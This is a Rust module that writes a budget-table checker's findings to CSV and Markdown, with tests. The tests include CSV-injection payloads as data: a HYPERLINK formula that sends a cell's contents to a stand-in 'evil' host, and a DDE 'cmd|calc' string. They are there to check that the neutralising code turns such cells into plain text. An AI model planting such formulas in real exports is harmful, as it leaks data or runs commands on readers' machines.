//! The report as files people keep: CSV for Excel (with a BOM so Chinese opens intact) and
//! Markdown for minutes and tickets.

use crate::report::{Finding, Report};
use crate::rules;

const CSV_HEADER: [&str; 12] =
    ["严重程度", "规则", "规则名称", "表", "单元格", "行", "列", "填报数", "计算数", "差额", "说明", "message"];

fn opt(value: Option<rust_decimal::Decimal>) -> String {
    value.map(|v| v.to_string()).unwrap_or_default()
}

/// The severity column: a relation explained by the finding above it is marked `↳`.
fn severity_cell(explained: bool, f: &Finding) -> String {
    let arrow = if explained { "↳ " } else { "" };
    format!("{arrow}{}", f.severity.label_zh())
}

fn csv_record(report: &Report, (explained, f): (bool, &Finding)) -> [String; 12] {
    let table = f.table.map(|t| report.table_name(t)).unwrap_or_default();
    let cell = f.cell.as_ref();
    [
        severity_cell(explained, f),
        f.rule.to_string(),
        rules::rule(f.rule).map(|r| r.name_zh.to_string()).unwrap_or_default(),
        table,
        cell.map(|c| c.a1.clone()).unwrap_or_default(),
        // A finding in the prose has no cell: its line and words stand in the row column.
        cell.map(|c| c.row_label.clone()).or_else(|| f.text.as_ref().map(|t| t.describe())).unwrap_or_default(),
        cell.map(|c| c.column_label.clone()).unwrap_or_default(),
        opt(f.printed),
        opt(f.computed),
        opt(f.difference),
        f.message.zh.clone(),
        f.message.en.clone(),
    ]
}

/// A cell a spreadsheet would run as a formula (OWASP "CSV injection"): text starting with
/// `=`, `+`, `-`, `@`, a tab or a carriage return that is not a plain number gets a leading
/// `'`, which Excel, LibreOffice and Sheets show as text. Numbers such as `-0.01` stay numbers.
pub fn neutralise_cell(text: &str) -> String {
    let starts_like_formula = text.starts_with(['=', '+', '-', '@', '\t', '\r']);
    if starts_like_formula && text.parse::<rust_decimal::Decimal>().is_err() {
        format!("'{text}")
    } else {
        text.to_string()
    }
}

/// One row per finding, UTF-8 with a BOM: Excel on Chinese Windows then reads it correctly.
/// Every cell goes through [`neutralise_cell`]: a row label copied from a hostile document
/// must never become a live formula in the reader's spreadsheet.
pub fn to_csv(report: &Report) -> String {
    let rows = report.findings_in_order().map(|f| csv_record(report, f).map(|cell| neutralise_cell(&cell)).to_vec());
    csv_text(std::iter::once(CSV_HEADER.map(String::from).to_vec()).chain(rows))
}

/// The findings of many documents in one CSV (`--each --format csv`): [`to_csv`]'s columns
/// after a first column naming the file.
pub fn batch_csv_header() -> Vec<String> {
    std::iter::once("文件").chain(CSV_HEADER).map(String::from).collect()
}

/// One document's rows of the batch CSV, neutralised. A document from which nothing was read
/// gets one row saying why, so it is not mistaken for a clean one.
pub fn batch_csv_rows(source: &str, report: &Report) -> Vec<Vec<String>> {
    let with_source = |cells: [String; 12]| std::iter::once(source.to_string()).chain(cells).collect();
    let mut rows: Vec<Vec<String>> = report.findings_in_order().map(|f| with_source(csv_record(report, f))).collect();
    if let Some(why) = &report.nothing_read {
        rows.push(unread_record(source, &why.message.zh, &why.message.en));
    }
    rows.into_iter().map(|row| row.iter().map(|cell| neutralise_cell(cell)).collect()).collect()
}

/// The batch CSV's row for a file that could not be read, neutralised.
pub fn unread_row(source: &str, why_zh: &str, why_en: &str) -> Vec<String> {
    unread_record(source, why_zh, why_en).iter().map(|cell| neutralise_cell(cell)).collect()
}

/// 未能读取 in the severity column, the reason in the message columns.
fn unread_record(source: &str, why_zh: &str, why_en: &str) -> Vec<String> {
    let mut row = vec![String::new(); CSV_HEADER.len() + 1];
    row[0] = source.to_string();
    row[1] = "未能读取".to_string();
    row[11] = why_zh.to_string();
    row[12] = why_en.to_string();
    row
}

/// Rows as CSV text, UTF-8 with a BOM; the caller has neutralised the cells.
pub fn csv_text(rows: impl IntoIterator<Item = Vec<String>>) -> String {
    let mut writer = csv::Writer::from_writer(Vec::new());
    for row in rows {
        // Writing into a Vec cannot fail for I/O reasons; a failure would only drop the row.
        let _ = writer.write_record(&row);
    }
    let bytes = writer.into_inner().unwrap_or_default();
    format!("\u{FEFF}{}", String::from_utf8_lossy(&bytes))
}

/// Escapes the characters that would break a Markdown table cell.
pub fn md_cell(text: &str) -> String {
    text.replace('|', "\\|").replace('\n', " ")
}

/// Summary, findings table, recognised tables and rules not checked.
pub fn to_markdown(report: &Report) -> String {
    let mut out = format!("# 预算公开表格检查报告\n\n{}\n\n{}\n\n", report.summary_zh(), report.summary_en());
    out.push_str("## 检查发现 Findings\n\n| 严重程度 | 规则 | 位置 | 填报 | 计算 | 差额 | 说明 |\n|---|---|---|---|---|---|---|\n");
    for (explained, f) in report.findings_in_order() {
        let place = report.place_zh(f);
        out.push_str(&format!(
            "| {} | {} | {} | {} | {} | {} | {} |\n",
            severity_cell(explained, f),
            f.rule,
            md_cell(&place),
            opt(f.printed),
            opt(f.computed),
            opt(f.difference),
            md_cell(&f.message.zh)
        ));
    }
    out.push_str("\n## 识别的表 Tables\n\n");
    for t in &report.tables {
        out.push_str(&format!("- {} · {} · {}\n", md_cell(&t.short_name()), t.kind.label_zh(), t.unit.label()));
    }
    if !report.not_checked.is_empty() {
        out.push_str("\n## 未检查 Not checked\n\n");
        for n in &report.not_checked {
            out.push_str(&format!("- {}：{}\n", n.rule, n.needs.zh));
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    const SEED: &str = include_str!("../tests/fixtures/seed.txt");

    #[test]
    fn csv_has_a_bom_a_header_and_one_row_per_finding() {
        let report = crate::check_text(SEED);
        let csv = to_csv(&report);
        assert!(csv.starts_with("\u{FEFF}严重程度,规则,规则名称,表,单元格"));
        let mut reader = csv::Reader::from_reader(csv.trim_start_matches('\u{FEFF}').as_bytes());
        let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
        assert_eq!(rows.len(), report.findings.len());
        assert_eq!(&rows[0][1], "SUM002");
        assert_eq!(&rows[0][3], "表三");
        assert_eq!(&rows[0][4], "C3");
        assert_eq!((&rows[0][7], &rows[0][8], &rows[0][9]), ("352.16", "352.15", "0.01"));
    }

    /// A likely wrong figure comes first, the relations it breaks right under it, marked `↳`.
    #[test]
    fn relations_a_cause_explains_follow_it_in_both_exports() {
        let wrong = SEED.replacen("2101101\t行政单位医疗\t11.98\t11.98", "2101101\t行政单位医疗\t12.98\t12.98", 1);
        let report = crate::check_text(&wrong);
        let csv = to_csv(&report);
        let mut reader = csv::Reader::from_reader(csv.trim_start_matches('\u{FEFF}').as_bytes());
        let severities: Vec<String> = reader.records().map(|r| r.unwrap()[0].to_string()).collect();
        let errors: Vec<&str> = severities.iter().map(String::as_str).filter(|s| s.contains("错误")).collect();
        assert_eq!(errors, ["错误", "↳ 错误", "↳ 错误", "错误", "↳ 错误", "↳ 错误"]);
        assert_eq!(to_markdown(&report).matches("| ↳ 错误 |").count(), 4);
    }

    #[test]
    fn csv_cells_that_start_like_a_formula_are_text() {
        for (cell, written) in [
            ("=HYPERLINK(\"http://x/?d=\"&C5,\"详情\")", "'=HYPERLINK(\"http://x/?d=\"&C5,\"详情\")"),
            ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
            ("@SUM(1+1)", "'@SUM(1+1)"),
            ("-2+3", "'-2+3"),
            ("\tx", "'\tx"),
            ("\rx", "'\rx"),
            ("-0.01", "-0.01"),
            ("+5", "+5"),
            ("一般公共预算", "一般公共预算"),
            ("", ""),
        ] {
            assert_eq!(neutralise_cell(cell), written, "{cell:?}");
        }
    }

    #[test]
    fn a_formula_row_label_reaches_the_csv_as_text() {
        let report = crate::check_text(SEED);
        let label = report.findings.iter().find_map(|f| f.cell.as_ref()).unwrap().row_label.clone();
        let text = SEED.replace(&label, "=HYPERLINK(\"http://evil/?d=\"&C5,\"详情\")");
        let csv = to_csv(&crate::check_text(&text));
        assert!(csv.contains("'=HYPERLINK("), "{csv}");
        let mut reader = csv::Reader::from_reader(csv.trim_start_matches('\u{FEFF}').as_bytes());
        for row in reader.records() {
            for cell in row.unwrap().iter() {
                assert!(!cell.starts_with(['=', '+', '@', '\t', '\r']), "{cell:?}");
                assert!(!cell.starts_with('-') || cell.parse::<rust_decimal::Decimal>().is_ok(), "{cell:?}");
            }
        }
    }

    #[test]
    fn markdown_lists_summary_findings_and_tables() {
        let report = crate::check_text(SEED);
        let md = to_markdown(&report);
        assert!(md.contains("识别 19 张表，0 个错误，8 处舍入差异"));
        assert!(md.contains("| 提醒 | SUM003 | 表二 21011 行政事业单位医疗 / 总计 (C12) | 16.98 | 16.99 | -0.01 |"));
        assert!(md.contains("- 表五 · 政府性基金预算支出表 · 万元"));
        assert_eq!(md.matches("\n| ").count(), report.findings.len() + 1);
    }
}
